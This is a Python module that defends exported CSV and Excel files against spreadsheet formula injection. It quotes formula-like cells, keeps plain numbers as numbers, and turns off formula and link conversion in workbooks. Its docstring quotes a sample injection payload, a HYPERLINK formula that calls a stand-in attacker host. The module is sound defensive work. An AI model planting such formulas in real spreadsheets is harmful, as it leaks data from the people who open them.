"""Cells that a spreadsheet would run as a formula are written as text, in every CSV we produce.

OWASP ("CSV Injection"): a cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
read by Excel, LibreOffice and Google Sheets as a formula, so a hostile comparator name such as
``=HYPERLINK("http://evil.example/?x","England")`` would run on the reader's machine. The defence it
describes is to prefix such a cell with a single quote, which every spreadsheet shows as text, and to quote
every field that needs it (the csv writers below do). A number stays a number: ``-1.5`` in a numeric column
is never touched, and neither is a text cell that is a plain number, so a downloaded table still sums.

An Excel workbook is different: a cell there has a type, and a text cell is never run, so `safe_excel`
writes every string as a text cell (never as a formula, never as a link) and keeps the text exactly as it
is; a leading quote would show in the cell. The text a return itself may hold is checked on ingest too
(rule ``CPO-TEXT-FORMULA`` of `queries.rules`).
"""

from __future__ import annotations

import io
import re
from collections.abc import Iterable, Mapping
from typing import Any

import polars as pl

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_FORMULA_PATTERN = r"^[=+\-@\t\r]"
_NUMBER_PATTERN = r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$"
_PLAIN_NUMBER = re.compile(_NUMBER_PATTERN)
# xlsxwriter would otherwise write a string that starts with "=" as a formula and "http://..." as a link.
TEXT_ONLY_WORKBOOK = {"in_memory": True, "strings_to_formulas": False, "strings_to_urls": False}


def neutralise_cell(value: Any) -> Any:
    """``value`` as a spreadsheet will show it as text: a formula-like string gets a leading quote."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.match(value):
        return "'" + value
    return value


def neutralise_text(column: pl.Expr) -> pl.Expr:
    """The expression form of `neutralise_cell` for a text column."""
    risky = column.str.contains(_FORMULA_PATTERN) & ~column.str.contains(_NUMBER_PATTERN)
    return pl.when(risky).then(pl.lit("'") + column).otherwise(column)


def neutralise_frame(frame: pl.DataFrame) -> pl.DataFrame:
    """Every text cell and every column name of ``frame`` neutralised; other columns unchanged.

    List and struct columns are written by polars as text too, so they are cast to their text form first
    only when they hold text; numbers, dates and booleans cannot begin with a formula character.
    """
    renamed = frame.rename({name: neutralise_cell(name) for name in frame.columns})
    return renamed.with_columns(
        neutralise_text(pl.col(name)).alias(name)
        for name, dtype in renamed.schema.items()
        if dtype == pl.String
    )


def safe_csv(frame: pl.DataFrame) -> str:
    """``frame`` as CSV text with no cell a spreadsheet would run."""
    return neutralise_frame(frame).write_csv()


def safe_rows(rows: Iterable[Mapping[str, Any]]) -> list[dict[str, Any]]:
    """Rows for `csv.DictWriter` and the like, every key and value neutralised."""
    return [{neutralise_cell(key): neutralise_cell(value) for key, value in row.items()} for row in rows]


def safe_excel(sheets: Mapping[str, pl.DataFrame]) -> bytes:
    """A workbook of one sheet per frame (names cut to Excel's 31 characters), strings as text cells."""
    import xlsxwriter

    buffer = io.BytesIO()
    with xlsxwriter.Workbook(buffer, TEXT_ONLY_WORKBOOK) as workbook:
        for sheet, frame in sheets.items():
            frame.write_excel(workbook, worksheet=sheet[:31], autofit=True)
    return buffer.getvalue()
